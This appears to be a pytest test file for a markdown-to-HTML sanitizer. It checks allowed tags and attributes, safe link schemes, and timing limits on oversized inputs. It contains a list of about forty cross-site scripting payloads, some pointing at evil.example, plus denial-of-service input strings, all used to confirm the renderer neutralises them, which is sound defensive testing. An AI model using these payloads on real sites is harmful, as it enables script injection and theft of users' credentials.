"""Markdown becomes HTML that is safe to show, whatever was written."""

import time
from html.parser import HTMLParser

import pytest

from collab_server.features.content import markup
from collab_server.features.content.markup import TooLong, render

HARMLESS_TAGS = set(
    [
        "a",
        "blockquote",
        "br",
        "code",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
HARMLESS_ATTRIBUTES = {
    *("align", "alt", "checked", "class", "disabled", "href", "rel", "src", "start", "title", "type"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example'</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:text/html,<script>alert(1)</script>)",
    '![x"onerror="alert(1)](http://a.example/x.png)',
    '![x](http://a.example/"onerror="alert(1))',
    '[x](http://a.example "t\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '```x" onclick="alert(1)\ncode\n```',
    "```</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "- [ ] <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "\u2028<script>alert(1)</script>",
    "<br onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class Seen(HTMLParser):
    """Every tag and attribute of a page, as a browser would read them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.others: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def assert_harmless(page: str) -> None:
    seen = Seen(page)
    assert seen.tags <= HARMLESS_TAGS
    assert not seen.others
    for tag, name, value in seen.attributes:
        assert name in HARMLESS_ATTRIBUTES, (tag, name)
        scheme = value.split(":")[0].strip().lower() if ":" in value else ""
        if name == "href":
            assert scheme in ("", "http", "https", "mailto", "tel"), value
        if name == "src":
            assert scheme in ("", "http", "https", "data"), value
            assert scheme != "data" or value.startswith(("data:image/png", "data:image/jpeg", "data:image/gif")), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_not_run(attack: str) -> None:
    for written in (attack, f"# {attack}", f"> * {attack}", f"**{attack}**", f"a\n{attack}\nb"):
        assert_harmless(render(written, "html"))


def test_markdown_becomes_html() -> None:
    page = render(
        "# Title\n\na *b* **c** ~~d~~ `e<f`\n\n| x | y |\n|:-:|--:|\n| 1<br>2 | 3 |\n\n```py\nif a < b:\n```\n", "html"
    )
    assert "<h1>Title</h1>" in page
    assert "a <em>b</em> <strong>c</strong> <s>d</s> <code>e&lt;f</code>" in page
    assert '<th align="center">x</th>' in page
    assert '<td align="center">1<br>\n2</td>' in page
    assert '<pre><code class="language-py">if a &lt; b:\n</code></pre>' in page


def test_tags_of_marks_are_kept_in_pairs_and_all_other_html_is_text() -> None:
    page = render(
        "<u>a</u> <mark>b *c*</mark> x<sub>1</sub> y<sup>2</sup> d<strong>(e)</strong>f <B>g</B>\n\n"
        "<u>h </sub> <script>i</script> `<u>j</u>` \\<u>k\n",
        "html",
    )
    assert "<u>a</u> <mark>b <em>c</em></mark> x<sub>1</sub> y<sup>2</sup> d<strong>(e)</strong>f" in page
    assert "<strong>g</strong>" in page
    assert "&lt;u&gt;h &lt;/sub&gt; &lt;script&gt;i&lt;/script&gt; <code>&lt;u&gt;j&lt;/u&gt;</code> &lt;u&gt;k" in page
    assert render("<u>a</u> <mark>b</mark> <u>c", "text") == "a b <u>c\n"
    deep = render("<u>" * 30 + "x" + "</u>" * 30, "html")
    assert (deep.count("<u>"), deep.count("</u>"), deep.count("&lt;u&gt;")) == (20, 20, 10)


def test_tasks_are_boxes_that_cannot_be_clicked() -> None:
    seen = Seen(render("- [ ] open\n- [x] **done**\n- [y] neither\n", "html"))
    boxes = [(name, value) for tag, name, value in seen.attributes if tag == "input"]
    assert sorted(boxes) == [
        ("checked", ""),
        ("disabled", ""),
        ("disabled", ""),
        ("type", "checkbox"),
        ("type", "checkbox"),
    ]


def test_an_escaped_box_is_text_and_paragraphs_keep_the_spaces_they_are_indented_by() -> None:
    assert "<input" not in render("- \\[ \\] text\n- \\[x] a\n- [\\ ] b\n", "html")
    assert render("- [ ] *a* \\[\n", "html").count("<input") == 1
    assert render("\u3000a\n\n# \u3000b\n", "html") == "<p>\u3000a</p>\n<h1>\u3000b</h1>\n"


def test_links_say_nothing_of_where_they_are_and_pictures_are_kept() -> None:
    page = render(
        "[a](https://a.example/?b=1&c=2) ![p](data:image/png;base64,AAAA) ![q](https://a.example/q.png)", "html"
    )
    assert '<a href="https://a.example/?b=1&amp;c=2" rel="noopener noreferrer nofollow ugc">a</a>' in page
    assert '<img src="data:image/png;base64,AAAA" alt="p">' in page
    assert '<img src="https://a.example/q.png" alt="q">' in page


def test_the_text_of_a_page_has_no_markup_and_no_entities() -> None:
    text = render("# One & two\n\n*three* <b>\n\n- [x] four\n- [five](http://a.example)\n\n&copy; 数据\n", "text")
    assert text == "One & two\nthree <b>\n\n[x] four\nfive\n\n© 数据\n"
    assert render("", "text") == render("", "html") == ""


BOMBS = {
    "quotes": ">" * 300_000,
    "lists": "- " * 300_000,
    "brackets": "[" * 300_000,
    "pictures": "![" * 300_000,
    "links": "[a](" * 200_000,
    "emphasis": "*a " * 50_000 + "b*" * 50_000,
    "wide tables": "|" + "a|" * 5_000 + "\n|" + "-|" * 5_000 + "\n" + "|\n" * 50_000,
    "many tables": "|a|b|\n|-|-|\n|1|2|\n\n" * 50_000,
    "backticks": "".join("`" * count + "a" for count in range(1300)),
    "tags": "<div>" * 200_000,
    "references": "[a]: x\n" * 140_000,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_rendered_or_refused_in_time(bomb: str) -> None:
    started = time.process_time()
    try:
        page = render(BOMBS[bomb], "html")
    except TooLong:
        pass
    else:
        assert len(page.encode()) <= markup.MAX_RENDERED_BYTES
    assert time.process_time() - started < 2 * markup.MAX_SECONDS


def test_a_result_beyond_the_bound_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "MAX_RENDERED_BYTES", 100_000)
    assert len(render("&" * 19_000, "html")) > 90_000
    with pytest.raises(TooLong):
        render("&" * (markup.MAX_RENDERED_BYTES // 5 + 1), "html")
